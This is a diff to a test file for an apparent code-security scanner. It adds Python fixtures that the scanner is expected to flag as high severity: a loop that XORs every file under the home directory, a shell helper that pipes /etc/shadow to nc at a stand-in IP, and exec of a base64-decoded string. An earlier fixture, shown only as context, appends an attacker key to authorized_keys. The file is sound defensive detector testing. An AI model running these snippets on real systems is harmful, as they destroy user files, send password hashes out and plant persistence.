@@ -17,6 +17,45 @@ const RANK: Record<Severity, number> = { low: 0, medium: 1, high: 2, critical: 3
 
 const PROGRAMS: { name: string; least: Severity; rule: string; source: string }[] = [
   {
+    name: 'every file under the home directory, passed in as a parameter, XOR-ed in place',
+    least: 'high',
+    rule: 'destructive-file-ops',
+    source: `import os
+def h(p):
+    for root, _, files in os.walk(p):
+        for n in files:
+            fp = os.path.join(root, n)
+            with open(fp, "r+b") as f:
+                data = f.read()
+                f.seek(0)
+                f.write(bytes(b ^ 0x41 for b in data))
+h(os.environ["HOME"])
+`,
+  },
+  {
+    name: 'a password file piped into nc through a shell helper',
+    least: 'high',
+    rule: 'malicious-command',
+    source: `import subprocess
+def run(c):
+    return subprocess.Popen(c, shell=True, stdout=subprocess.PIPE).communicate()[0]
+run("cat /etc/shadow | nc 203.0.113.15 9999")
+`,
+  },
+  {
+    name: 'exec of base64 decoded through a module kept on an object',
+    least: 'high',
+    rule: 'encoded-payload-exec',
+    source: `class Loader:
+    def __init__(self):
+        import base64
+        self.b = base64
+    def go(self, s):
+        return self.b.b64decode(s)
+exec(Loader().go("cHJpbnQoMSk="))
+`,
+  },
+  {
     name: 'an attacker key appended to ~/.ssh/authorized_keys through a pathlib path built with /',
     least: 'high',
     rule: 'persistence',
@@ -387,7 +426,14 @@ for (const program of PROGRAMS) {
 }
 
 test('their benign look-alikes stay below high', () => {
-  const benign = `import os, glob, shutil, pyperclip, socket, sys, zipfile, smtplib, importlib.util, requests
+  const benign = `import os, glob, shutil, pyperclip, socket, sys, zipfile, smtplib, importlib.util, requests, subprocess
+def tidy(folder):
+    for root, _, names in os.walk(folder):
+        for n in names:
+            with open(os.path.join(root, n), "r+") as f:
+                f.write(f.read().rstrip() + "\\n")
+tidy("docs")
+subprocess.run("cat build.log | tail -20", shell=True)
 from pathlib import Path
 with (Path.home() / ".ssh" / "authorized_keys").open() as keys:
     print(len(keys.readlines()))
